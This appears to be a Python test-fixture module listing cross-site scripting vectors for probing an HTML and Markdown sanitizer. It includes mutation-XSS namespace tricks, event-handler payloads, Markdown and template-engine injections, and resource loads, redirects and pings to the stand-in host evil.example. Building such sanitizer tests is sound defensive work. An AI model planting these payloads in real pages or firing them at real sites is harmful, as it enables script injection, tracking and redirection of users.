"""Vectors that stand in no corpus: shapes of our own, after how browsers parse and how this site is made."""

from __future__ import annotations

CALL = "alert(1)"
IMAGE = f"<img src=x onerror={CALL}>"

NAMESPACES = (
    f"<svg><annotation-xml><foreignobject><style><!--</style><p title='--&gt;{IMAGE}'>",
    f"<math><annotation-xml encoding=application/xhtml+xml><noscript><p id='</noscript>{IMAGE}'>",
    f"<svg><foreignObject><noscript></svg><textarea></noscript>{IMAGE}</textarea>",
    f"<math><ms><mglyph><malignmark><style><!--</style>--><a id='{IMAGE}'>",
    f"<svg><font color><title><![CDATA[</title>{IMAGE}]]></svg>",
    f"<table><colgroup><template><td><svg><style></table>{IMAGE}</style></svg></template>",
    f"<select><selectedcontent></selectedcontent><option><svg><title><style></option>{IMAGE}</style></select>",
    f"<svg><image href=x onerror={CALL}><desc><math><mi><image src=x onerror={CALL}></math>",
    f"<frameset><frame src=javascript:{CALL}></frameset><noframes></noframes>{IMAGE}",
    f"<dl><dt><form id=x></dt><math><mtext></form><form><mglyph><style></math>{IMAGE}",
)
"""What changes its namespace, its parent or its mode of parsing when it is read once more."""

TEMPLATES = (
    f"<div><template shadowrootmode=closed><slot onslotchange={CALL}></slot>{IMAGE}</template></div>",
    f"<noscript><template><script>{CALL}</script></noscript></template>{IMAGE}",
    f"<template><template></template><base href=//evil.example/><a href=x>x</a></template>{IMAGE}",
    f"<input type=hidden oncontentvisibilityautostatechange={CALL} style=content-visibility:auto>",
    f"<div style='scroll-timeline:--x;overflow:auto' onscrollsnapchanging={CALL}>x</div>",
    f"<video controls><track default src='data:text/vtt,WEBVTT' oncuechange={CALL}></video>",
    f"<details name=x open ontoggle={CALL}><summary>x</summary></details>",
    f"<button commandfor=x command=show-popover>x</button><i id=x popover onbeforetoggle={CALL} oncommand={CALL}>x</i>",
)
"""What waits for something, in elements that are young."""

ADDRESSED = (
    "<img srcset='http://evil.example/1x.png 1x, http://evil.example/2x.png 2x' sizes=1px>",
    "<link rel=preload as=image imagesrcset='http://evil.example/x.png 9w' imagesizes=9px>",
    "<svg><feImage href=http://evil.example/x.svg /><image xlink:href=http://evil.example/y.png /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\" onload=alert(1)>#x'/></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<p style='background-image:image-set(url(http://evil.example/x.png) 1x)'>x</p>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}p{font-family:x}</style><p>x</p>",
    "<style>:root{--x:url(http://evil.example/x)}p{mask:var(--x);cursor:url(//evil.example/c),auto}</style><p>x</p>",
    "<meta http-equiv=refresh content='0.1 ; URL = &Tab;http://evil.example/x'>",
    "<meta name=referrer content=unsafe-url><a href=x ping='http://evil.example/p http://evil.example/q'>x</a>",
    "<form id=f></form><button form=f formaction='java&#x0A;script:alert(1)' formmethod=get>x</button>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://evil.example/x"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"data:,alert(1)"}}</script><script type=module>import "x"</script>',
    "<body background=http://evil.example/x.png><bgsound src=http://evil.example/x.wav><applet archive=//evil.example>",
)
"""What asks, leads or sends elsewhere."""

MARKDOWN = (
    '[a][x]\n\n[x]: java&#115;cript&#58;alert(1) "<img src=x onerror=alert(1)>"',
    "[a][]\n\n[a]: <data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4->",
    '![[x](javascript:alert(1))][y]\n\n[y]: x\\"onerror=alert(1)//',
    "[[[[x](y)](javascript:alert(1))](javascript:alert(1))](<javascript:alert(1)>)",
    "<javascript&colon;alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,<script>alert(1)</script>>",
    '<harbor@a.example"onclick=alert(1)> <mailto:javascript:alert(1)@a.example>',
    "<div>\n*x*\n\n<img src=x onerror=alert(1)>\n\n</div>\n\n<!-- --\n\n><img src=x onerror=alert(1)>\n-->",
    '````md"onmouseover=alert(1)\n```\n<img src=x onerror=alert(1)>\n````\n\n~~~<img/src/onerror=alert(1)>\nx',
    "a | b\n- | -\n`|<img src=x onerror=alert(1)>`|\\|<svg/onload=alert(1)>\n[x][y]|[y]: javascript:alert(1)",
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <svg onload=alert(1)>",
    '*<img src=x onerror=**alert(1)>*\n\n_<a href="_javascript:alert(1)_">x</a>_',
    '{{ config.__class__ }}{%- raw -%}<img src=x onerror=alert(1)>{%- endraw -%}{{"{{"}}',
    "{static}/../pelican.conf.py [x]({tag}<img/src/onerror=alert(1)>) [y](|attach|../x) {author}{category}{index}",
    '[x](https://harbor.example/{filename}"><img src=x onerror=alert(1)>) ![y]({photo}x)',
    "[x](//evil.example/x) [y](/\\evil.example/y) [z](\\\\evil.example\\z) ![w](//evil.example/w.png)",
    "1. <img src=x\n   onerror=alert(1)>\n\n   > <svg\n   > onload=alert(1)>\n\n- [ ] <input onfocus=alert(1)>",
)
"""What Markdown, a template engine or a publisher of Markdown could make markup of."""

UNSEEN = (*NAMESPACES, *TEMPLATES, *ADDRESSED, *MARKDOWN)
